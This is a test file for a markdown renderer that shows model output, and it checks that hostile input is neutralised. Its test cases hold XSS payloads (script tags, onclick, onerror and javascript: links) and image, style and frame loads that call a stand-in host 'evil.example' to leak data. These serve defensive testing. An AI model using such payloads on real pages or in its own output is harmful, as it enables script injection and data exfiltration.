// Text of a model is not to be trusted: it may repeat whatever it read.
import { describe, expect, it } from 'vitest';
import { render } from './markdown';

function html(text: string): string {
  const area = document.createElement('div');
  area.append(render(text));
  return area.innerHTML;
}

describe('Markdown', () => {
  it('has lists, tables, code and emphasis', () => {
    const shown = html('**a** `b`\n\n- c\n\n| d | e |\n| - | - |\n| f | g |\n');
    for (const part of ['<strong>a</strong>', '<code>b</code>', '<li>c</li>', '<td>f</td>'])
      expect(shown).toContain(part);
  });

  it('goes down one heading at a time', () => {
    expect(html('#### a\n\n# b\n\n### c')).toMatch(/<h3>a<\/h3>\s*<h3>b<\/h3>\s*<h4>c<\/h4>/);
  });

  it('has links that open outside and say where they lead', () => {
    const shown = html('[my bank](https://evil.example/x)');
    expect(shown).toContain('target="_blank"');
    expect(shown).toContain('rel="noopener noreferrer"');
    expect(shown).toContain('title="https://evil.example/x"');
  });

  it.each([
    ['a picture', '![x](https://evil.example/?leak)'],
    ['a picture in HTML', '<img src="https://evil.example/?leak">'],
    ['a picture without a protocol', '<img src="//evil.example/?leak">'],
    ['a set of pictures', '<img srcset="https://evil.example/ 2x" src="data:text/html,x">'],
    ['a style', '<p style="background:url(https://evil.example)">x</p>'],
    ['a drawing', '<svg><image href="https://evil.example"/></svg>'],
    ['a frame', '<iframe src="https://evil.example"></iframe>'],
    ['a film', '<video poster="https://evil.example"></video>']
  ])('loads nothing: %s', (_name, text) => {
    const area = document.createElement('div');
    area.append(render(text));
    expect(
      area.querySelectorAll('[src], [srcset], [style], [poster], svg, iframe, video, image')
    ).toHaveLength(0);
  });

  it('shows pictures that it holds itself', () => {
    expect(html('![x](data:image/png;base64,AAAA)')).toContain(
      '<img src="data:image/png;base64,AAAA" alt="x">'
    );
  });

  it.each([
    '<script>alert(1)</script>',
    '<p onclick="alert(1)">x</p>',
    '[x](javascript:alert(1))',
    '<a href="java\nscript:alert(1)">x</a>',
    '<form action="/x"><input name="a"><button>x</button></form>',
    '<p id="content" class="fixed">x</p>',
    '![x"onerror="alert(1)](data:image/png;base64,A"onerror="alert(1))'
  ])('runs and disguises nothing: %s', (text) => {
    const area = document.createElement('div');
    area.append(render(text));
    for (const node of area.querySelectorAll('*')) {
      for (const { name, value } of node.attributes) {
        expect(name).not.toMatch(/^on|^id$|^class$|^style$|^action$/);
        expect(value).not.toMatch(/^\s*java/i);
      }
    }
    expect(area.querySelectorAll('script, form, input, button')).toHaveLength(0);
  });
});
